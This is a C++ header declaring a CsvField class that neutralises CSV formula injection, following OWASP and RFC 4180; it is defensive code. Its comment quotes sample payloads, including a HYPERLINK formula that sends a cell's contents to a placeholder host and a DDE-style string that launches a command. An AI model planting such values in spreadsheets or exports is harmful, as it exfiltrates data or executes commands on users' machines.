#pragma once

#include <QString>

namespace carddesk::core {

// One field of a CSV file that CardDesk writes, safe to open in a spreadsheet. Every CSV writer goes through here.
//
// Why: a stored text such as `=HYPERLINK("http://x/?"&A1)`, `+cmd|' /C calc'!A0` or `@SUM(A1)` is run as a formula
// by Excel, WPS and LibreOffice when the file is opened (CSV/formula injection). Following OWASP, a text that
// begins with =, +, -, @, a tab or a carriage return gets a single quote in front, which spreadsheets show as
// text; a plain number ("-12.5", "+8613800000000") is left alone, as it cannot be a formula.
class CsvField
{
public:
    // `text` neutralised (see above) and quoted per RFC 4180 when it holds a comma, quote or line break.
    static QString text(const QString& text);
    // A value CardDesk computed (a number, a flag): quoted when needed, never prefixed.
    static QString value(const QString& text);
    // `text` with the single quote in front when it would start a formula; unchanged otherwise.
    static QString neutralised(const QString& text);
};

} // namespace carddesk::core
